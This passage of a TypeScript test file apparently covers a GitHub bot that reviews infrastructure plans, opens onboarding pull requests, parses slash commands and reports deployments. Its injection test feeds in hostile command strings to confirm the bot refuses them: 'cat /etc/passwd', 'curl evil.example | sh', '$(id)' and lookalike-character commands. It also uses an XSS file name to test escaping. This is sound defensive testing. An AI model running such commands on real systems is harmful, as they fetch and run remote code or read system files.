    gh.newCheckRun(AFTER, 53);
    await (await probot()).receive({ id: 'p5', name: 'push', payload: pushPayload() } as never);
    const summary = gh.made('POST', '/check-runs')[0]!.body.output.summary as string;
    // The file name is a code span (shown as written, never parsed); everything else is escaped text.
    expect(summary).toContain('`.autostack/<img src=x onerror=alert(1)>.yaml:6:11`');
    expect(summary.replace(/`[^`\n]*`/g, '')).not.toMatch(/<|@acme/);
    expect(summary).toContain('&lt;h2&gt;@\u200bacme/security&lt;/h2&gt;');
  });

  it('ignores pushes to other branches', async () => {
    gh = new FakeGitHub().token();
    const p = pushPayload();
    p.ref = 'refs/heads/feature';
    await (await probot()).receive({ id: 'p4', name: 'push', payload: p } as never);
    expect(gh.requests).toHaveLength(0);
    gh = new FakeGitHub();
  });
});

describe('onboarding', () => {
  function onboardingFlow(fake: FakeGitHub, repo: string) {
    const path = (rest: string) => `/repos/${OWNER}/${repo}${rest}`;
    fake.on('GET', path(''), 200, { name: repo, default_branch: 'main', archived: false });
    fake.on('GET', path('/contents/.autostack/autostack.yaml'), 404, { message: 'Not Found' });
    fake.on('GET', path('/pulls'), 200, []);
    fake.on('GET', path('/git/ref/heads/main'), 200, { object: { sha: 'a'.repeat(40) } });
    fake.on('GET', path(`/git/commits/${'a'.repeat(40)}`), 200, { tree: { sha: 'root' } });
    fake.on('POST', path('/git/trees'), 201, { sha: 'tree' });
    fake.on('POST', path('/git/commits'), 201, { sha: 'b'.repeat(40) });
    fake.on('POST', path('/git/refs'), 201, {});
    fake.on('POST', path('/pulls'), 201, { number: 1 });
  }

  it('opens one onboarding pull request per repository of a new installation', async () => {
    gh = new FakeGitHub().token(2);
    onboardingFlow(gh, 'one');
    onboardingFlow(gh, 'two');
    const p = payload('installation', 'created', (x) => {
      x.repositories = [{ id: 1, name: 'one', full_name: `${OWNER}/one`, private: true }, { id: 2, name: 'two', full_name: `${OWNER}/two`, private: true }];
    });
    await (await probot()).receive({ id: 'i1', name: 'installation', payload: p } as never);
    const tree = gh.made('POST', '/git/trees')[0]!.body.tree.map((t: { path: string }) => t.path);
    expect(tree).toEqual(['.autostack/autostack.yaml', '.autostack/example-db.yaml', '.github/workflows/autostack-deploy.yml']);
    const workflow = gh.made('POST', '/git/trees')[0]!.body.tree[2].content as string;
    expect(workflow).toContain('id-token: write');
    expect(workflow).toContain('group: autostack-${{ matrix.stack }}');
    expect(workflow).not.toMatch(/run:.*\$\{\{\s*(github\.event|inputs)/);
    expect(gh.made('POST', '/pulls')).toHaveLength(2);
  });

  it('never opens a second onboarding pull request', async () => {
    gh = new FakeGitHub().token();
    gh.on('GET', `/repos/${OWNER}/three`, 200, { name: 'three', default_branch: 'main' });
    gh.on('GET', `/repos/${OWNER}/three/contents/.autostack/autostack.yaml`, 404, { message: 'Not Found' });
    gh.on('GET', `/repos/${OWNER}/three/pulls`, 200, [{ number: 4, state: 'closed' }]);
    const p = payload('installation_repositories', 'added', (x) => {
      x.repositories_added = [{ id: 3, name: 'three', full_name: `${OWNER}/three`, private: true }];
    });
    await (await probot()).receive({ id: 'i2', name: 'installation_repositories', payload: p } as never);
    expect(gh.made('POST', '/pulls')).toHaveLength(0);
  });
});

describe('comment commands', () => {
  const comment = (body: string, login = 'dev') => payload('issue_comment', 'created', (p) => {
    p.issue.number = 7;
    p.issue.pull_request = { url: 'x' };
    p.comment.id = 555;
    p.comment.body = body;
    p.comment.user.login = login;
    p.sender.type = 'User';
  });

  it('re-runs the review on /autostack plan from someone with write access', async () => {
    gh = new FakeGitHub().token();
    gh.on('POST', gh.repoPath('/issues/comments/555/reactions'), 201, { id: 1, content: 'eyes' });
    gh.on('GET', gh.repoPath('/collaborators/dev/permission'), 200, { permission: 'write' });
    expectReReview(gh, 6);
    await (await probot()).receive({ id: 'c1', name: 'issue_comment', payload: comment('/autostack plan') } as never);
    expect(gh.made('POST', '/issues/7/comments')[0]!.body.body).toContain(MARKER);
  });

  it('politely refuses someone without write access', async () => {
    gh = new FakeGitHub().token();
    gh.on('POST', gh.repoPath('/issues/comments/555/reactions'), 201, { id: 1 });
    gh.on('GET', gh.repoPath('/collaborators/visitor/permission'), 200, { permission: 'read' });
    gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: 6 });
    await (await probot()).receive({ id: 'c2', name: 'issue_comment', payload: comment('/autostack deploy orders-db', 'visitor') } as never);
    expect(gh.made('POST', '/issues/7/comments')[0]!.body.body).toMatch(/@visitor thanks for asking .* write access/);
  });

  it('answers help, and does nothing for a duplicate delivery of the same comment', async () => {
    gh = new FakeGitHub().token();
    gh.on('POST', gh.repoPath('/issues/comments/555/reactions'), 201, { id: 1 });
    gh.on('GET', gh.repoPath('/collaborators/dev/permission'), 200, { permission: 'admin' });
    gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: 6 });
    gh.on('POST', gh.repoPath('/issues/comments/555/reactions'), 200, { id: 1 });
    const app = await probot();
    await app.receive({ id: 'c3', name: 'issue_comment', payload: comment('/autostack help') } as never);
    await app.receive({ id: 'c3-again', name: 'issue_comment', payload: comment('/autostack help') } as never);
    expect(gh.made('POST', '/issues/7/comments')).toHaveLength(1);
  });

  it('refuses shell, flag and lookalike arguments with a reply and runs nothing', async () => {
    const attempts: [string, RegExp][] = [
      ['/autostack deploy orders-db; cat /etc/passwd', /Usage: `\/autostack deploy <plan>`/],
      ['/autostack deploy orders-db && curl evil.example | sh', /Usage: `\/autostack deploy <plan>`/],
      ['/autostack deploy $(id)', /Usage: `\/autostack deploy <plan>`/],
      ['/autostack deploy --target=aws_instance.x', /Usage: `\/autostack deploy <plan>`/],
      ['/autostack deploy orders-db --auto-approve', /Usage: `\/autostack deploy <plan>`/],
      ['/autostack deploy -- ; cat /etc/passwd', /Usage: `\/autostack deploy <plan>`/],
      ['/autostack plan --var=x', /`\/autostack plan` takes no arguments/],
      ['/autostack apply -- ; cat /etc/passwd', /I don't know `\/autostack apply`/],
      ['/autostack deploy оrders-db', /Usage: `\/autostack deploy <plan>`/],
      ['／autostack deploy orders-db', /lookalike \(fullwidth or compatibility\) characters, so nothing was run/],
      ['/autostack ｄeploy orders-db', /lookalike \(fullwidth or compatibility\) characters, so nothing was run/],
      ['/ａutostack plan', /lookalike \(fullwidth or compatibility\) characters, so nothing was run/],
    ];
    for (const [i, [body, reply]] of attempts.entries()) {
      gh = new FakeGitHub().token();
      // The strict fake allows only the reaction and the reply: no permission read, deployment, dispatch or review.
      gh.on('POST', gh.repoPath('/issues/comments/555/reactions'), 201, { id: 1 });
      gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: 6 });
      await (await probot()).receive({ id: `inj-${i}`, name: 'issue_comment', payload: comment(body) } as never);
      const posted = gh.made('POST', '/issues/7/comments');
      expect(posted, body).toHaveLength(1);
      expect(posted[0]!.body.body, body).toMatch(/^@dev /);
      expect(posted[0]!.body.body, body).toMatch(reply);
      expect(posted[0]!.body.body, body).not.toContain('/etc/passwd');
      gh.verify();
    }
  });

  it('re-deploys a plan from the deploy branch with a new deployment and a dispatch', async () => {
    gh = new FakeGitHub().token();
    const deployHead = '9'.repeat(40);
    gh.on('POST', gh.repoPath('/issues/comments/555/reactions'), 201, { id: 1 });
    gh.on('GET', gh.repoPath('/collaborators/dev/permission'), 200, { permission: 'maintain' });
    gh.on('GET', gh.repoPath(''), 200, { default_branch: 'main' });
    gh.files({ main: {} });
    gh.on('GET', gh.repoPath('/git/ref/heads/autostack/deploy'), 200, { object: { sha: deployHead } });
    gh.on('GET', gh.repoPath(`/git/commits/${deployHead}`), 200, { message: `Render aaaaaaa\n\nAutoStack-Source: ${'a'.repeat(40)}\n` });
    gh.on('GET', gh.repoPath('/contents/autostack-deploy.json'), 200, { content: Buffer.from(JSON.stringify({ version: 1, sourceSha: 'a', renderedAt: '', stacks: [{ name: 'orders-db-aws', plan: 'orders-db', cloud: 'aws', action: 'unchanged' }] })).toString('base64') });
    gh.on('GET', gh.repoPath('/contents/.github/workflows/autostack-deploy.yml'), 200, {});
    gh.on('POST', gh.repoPath('/deployments'), 201, { id: 31 });
    gh.on('POST', gh.repoPath('/actions/workflows/autostack-deploy.yml/dispatches'), 204);
    gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: 6 });
    await (await probot()).receive({ id: 'c4', name: 'issue_comment', payload: comment('please\n/autostack deploy orders-db') } as never);
    expect(gh.made('POST', '/deployments')[0]!.body).toMatchObject({ ref: deployHead, environment: 'autostack/orders-db' });
    expect(gh.made('POST', '/dispatches')[0]!.body.inputs).toMatchObject({ source_sha: 'a'.repeat(40), stacks: '["orders-db-aws"]' });
    expect(gh.made('POST', '/issues/7/comments')[0]!.body.body).toContain('deployment 31');
  });
});

describe('deploy results', () => {
  const SOURCE = 'a'.repeat(40);
  const DEPLOY = 'd'.repeat(40);

  it('reflects deployment statuses on the source commit check and the merged pull request comment', async () => {
    gh = new FakeGitHub().token();
    gh.on('GET', gh.repoPath('/deployments'), 200, [{ id: 1, environment: 'autostack/orders-db', payload: { stack: 'orders-db-aws' } }, { id: 2, environment: 'autostack/old-db', payload: { stack: 'old-db-aws' } }]);
    gh.on('GET', gh.repoPath('/deployments/1/statuses'), 200, [{ state: 'success', log_url: 'https://github.com/acme/infra/actions/runs/1' }]);
    gh.on('GET', gh.repoPath('/deployments/2/statuses'), 200, [{ state: 'failure', log_url: 'https://github.com/acme/infra/actions/runs/2' }]);
    gh.on('GET', gh.repoPath(`/commits/${SOURCE}/check-runs`), 200, { total_count: 1, check_runs: [{ id: 70 }] });
    gh.on('PATCH', gh.repoPath('/check-runs/70'), 200, {});
    gh.on('GET', gh.repoPath(`/commits/${SOURCE}/pulls`), 200, [{ number: 7, merged_at: '2026-11-23T10:00:00Z' }]);
    gh.on('GET', gh.repoPath('/issues/7/comments'), 200, [{ id: 3, body: `${MARKER}\nreview\n<!-- autostack:meta head=${HEAD} at=2026-11-23T09:00:00.000Z -->`, user: { login: 'autostack[bot]', type: 'Bot' }, performed_via_github_app: { id: APP_ID } }]);
    gh.on('PATCH', gh.repoPath('/issues/comments/3'), 200, {});
    const p = payload('deployment_status', 'created', (x) => {
      x.deployment.environment = 'autostack/old-db';
      x.deployment.sha = DEPLOY;
      x.deployment.payload = { stack: 'old-db-aws', sourceSha: SOURCE };
    });
    await (await probot()).receive({ id: 's1', name: 'deployment_status', payload: p } as never);
    expect(gh.made('PATCH', '/check-runs/70')[0]!.body).toMatchObject({ status: 'completed', conclusion: 'failure', output: { title: 'Deploy failed' } });
    const body = gh.made('PATCH', '/issues/comments/3')[0]!.body.body as string;
    expect(body).toContain('review');
    expect(body).toContain('✅ deployed');
    expect(body).toContain('❌ failed: [run](https://github.com/acme/infra/actions/runs/2)');
  });

  it('reflects every stack of a deploy commit with more than 100 deployments (all pages)', async () => {
    gh = new FakeGitHub().token();
    const deployments = Array.from({ length: 120 }, (_, i) => ({ id: i + 1, environment: `autostack/db-${i}`, payload: { stack: `db-${i}-aws` } }));
    gh.pages(gh.repoPath('/deployments'), deployments);
    gh.on('GET', /\/deployments\/\d+\/statuses$/, 200, [{ state: 'success' }], 120);
    gh.on('GET', gh.repoPath(`/commits/${SOURCE}/check-runs`), 200, { total_count: 1, check_runs: [{ id: 70 }] });
    gh.on('PATCH', gh.repoPath('/check-runs/70'), 200, {});
    gh.on('GET', gh.repoPath(`/commits/${SOURCE}/pulls`), 200, []);
    const p = payload('deployment_status', 'created', (x) => {
      x.deployment.environment = 'autostack/db-0';
      x.deployment.sha = DEPLOY;
      x.deployment.payload = { stack: 'db-0-aws', sourceSha: SOURCE };
    });
    await (await probot()).receive({ id: 's-many', name: 'deployment_status', payload: p } as never);
    expect(gh.made('GET', '/statuses')).toHaveLength(120);
    expect(gh.made('PATCH', '/check-runs/70')[0]!.body).toMatchObject({ status: 'completed', conclusion: 'success' });
  });

  it('marks the deploy check failed when the workflow run fails before reporting', async () => {
    gh = new FakeGitHub().token();
    gh.on('GET', gh.repoPath(`/commits/${SOURCE}/check-runs`), 200, { total_count: 1, check_runs: [{ id: 71, status: 'in_progress', conclusion: null }] });
    gh.on('PATCH', gh.repoPath('/check-runs/71'), 200, {});
    const p = payload('workflow_run', 'completed', (x) => {
      x.workflow_run.path = '.github/workflows/autostack-deploy.yml';
      x.workflow_run.conclusion = 'failure';
      x.workflow_run.head_sha = SOURCE;
      x.workflow_run.html_url = 'https://github.com/acme/infra/actions/runs/9';
    });
    await (await probot()).receive({ id: 'w1', name: 'workflow_run', payload: p } as never);
    expect(gh.made('PATCH', '/check-runs/71')[0]!.body).toMatchObject({ conclusion: 'failure', details_url: 'https://github.com/acme/infra/actions/runs/9' });
  });
});

describe('scale', () => {
  it('reviews 200 changed plans: one comment under 65,536 characters, annotations in batches of 50', async () => {
    gh = new FakeGitHub().token();
    const files: Record<string, string> = {};
    for (let i = 0; i < 200; i++) files[`.autostack/db-${i}.yaml`] = PLAN(`db-${i}`, '  network: { allowedCidrs: [0.0.0.0/0] }\n').replace('storage: { sizeGiB: 50 }', `storage: { sizeGiB: ${50 + i} }`);
    gh.pages(gh.repoPath('/pulls/7/files'), Object.keys(files).map((filename) => ({ filename, status: 'added' })));
    gh.graphql({ [BASE]: {}, [HEAD]: files }, 2);
    gh.newCheckRun(HEAD, 99, 3);
    gh.on('GET', gh.repoPath('/pulls/7'), 200, { number: 7, head: { sha: HEAD } });
    gh.on('GET', gh.repoPath('/issues/7/comments'), 200, []);
    gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: 5 });
    await (await probot()).receive({ id: 'big', name: 'pull_request', payload: prPayload('opened') } as never);
    const patches = [...gh.made('POST', '/check-runs'), ...gh.made('PATCH', '/check-runs/99')].map((r) => r.body);
    expect(patches.map((b) => b.output.annotations.length)).toEqual([50, 50, 50, 50]);
    // The first batch comes with the run's creation (in progress), the others with its updates.
    expect(patches[0].status).toBe('in_progress');
    expect(patches.slice(1, 3).every((b) => b.status === undefined)).toBe(true);
    expect(patches[3]).toMatchObject({ status: 'completed', conclusion: 'success' });
    const comments = gh.made('POST', '/issues/7/comments');
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body.body.length).toBeLessThan(65_536);
  });

  it('caps what a review lists: 100 diagnostics per file, 250 annotations in 5 requests, 50 lines in the comment, each with a count of the rest', async () => {
    gh = new FakeGitHub().token();
    const files: Record<string, string> = {};
    for (let i = 0; i < 3; i++) files[`.autostack/db-${i}.yaml`] = PLAN(`db-${i}`, `  network: { allowedCidrs: [${Array(1000).fill('1').join(',')}] }\n`);
    gh.pages(gh.repoPath('/pulls/7/files'), Object.keys(files).map((filename) => ({ filename, status: 'added' })));
    gh.graphql({ [BASE]: {}, [HEAD]: files });
    gh.newCheckRun(HEAD, 99, 4);
    gh.on('GET', gh.repoPath('/pulls/7'), 200, { number: 7, head: { sha: HEAD } });
    gh.on('GET', gh.repoPath('/issues/7/comments'), 200, []);
    gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: 5 });
    await (await probot()).receive({ id: 'many-errors', name: 'pull_request', payload: prPayload('opened') } as never);
    const patches = [...gh.made('POST', '/check-runs'), ...gh.made('PATCH', '/check-runs/99')].map((r) => r.body);
    expect(patches.map((b) => b.output.annotations.length)).toEqual([50, 50, 50, 50, 50]);
    expect(patches[4]).toMatchObject({ status: 'completed', conclusion: 'failure' });
    expect(patches[4].output.summary).toContain('Annotations show the first 250 of 303 diagnostics');
    // Each file: 100 diagnostics and one that counts the other 901.
    expect(patches.flatMap((b) => b.output.annotations).filter((a: { title: string }) => a.title === 'file/more-problems')).toHaveLength(2);
    const comment = gh.made('POST', '/issues/7/comments')[0]!.body.body as string;
    expect(comment).toContain('…and 253 more: the check run annotates the first 250');
    expect(comment.split('\n').filter((l) => l.startsWith('- ❌'))).toHaveLength(50);
  });
});
